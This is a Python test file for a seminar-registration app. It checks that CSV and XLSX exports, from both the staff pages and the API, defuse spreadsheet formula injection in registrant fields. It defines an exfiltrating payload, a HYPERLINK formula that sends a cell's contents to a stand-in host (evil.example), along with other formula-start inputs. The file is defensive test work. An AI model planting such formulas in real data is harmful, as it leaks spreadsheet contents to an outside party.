"""Probe finding 2: a registrant's text must never become a live formula in an export
(CSV and XLSX, from the staff pages and from the API)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from keryx.core.spreadsheet import safe_cell
from tests.registrations.helpers import publish, register

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_safe_cell_defuses_every_formula_start() -> None:
    assert [safe_cell(v) for v in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", ""]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "ok",
        "",
    ]
    assert safe_cell(3) == 3 and safe_cell(None) is None


def _registrant(seminar, user) -> None:  # type: ignore[no-untyped-def]
    publish(seminar, user, optional_fields=["profession", "organisation"])
    register(
        seminar,
        "evil@example.org",
        name=EVIL,
        answers={"profession": "+30 210", "organisation": "@SUM(1)"},
    )


def _csv_row(body: bytes) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == 1
    return rows[0]


def _xlsx_row(body: bytes) -> dict[str, object]:
    sheet = load_workbook(io.BytesIO(body)).active
    header = [c.value for c in sheet[1]]
    cells = sheet[2]
    assert all(c.data_type != "f" for c in cells)
    return {str(h): c.value for h, c in zip(header, cells, strict=True)}


def test_staff_exports_carry_no_formula(owner_client, seminar, user) -> None:
    _registrant(seminar, user)
    base = f"/w/{seminar.workspace.slug}/registrations/{seminar.pk}/"
    row = _csv_row(owner_client.get(base + "export.csv").content)
    assert (row["name"], row["profession"], row["organisation"]) == (
        "'" + EVIL,
        "'+30 210",
        "'@SUM(1)",
    )
    cells = _xlsx_row(owner_client.get(base + "export.xlsx").content)
    assert (cells["name"], cells["profession"], cells["organisation"]) == (
        "'" + EVIL,
        "'+30 210",
        "'@SUM(1)",
    )


def test_api_exports_carry_no_formula(api, seminar, user) -> None:
    _registrant(seminar, user)
    url = f"/api/v1/workspaces/{seminar.workspace.slug}/seminars/{seminar.pk}/registrations-export"
    row = _csv_row(api.get(url + "?format=csv").content)
    assert row["name"] == "'" + EVIL
    cells = _xlsx_row(api.get(url + "?format=xlsx").content)
    assert cells["name"] == "'" + EVIL
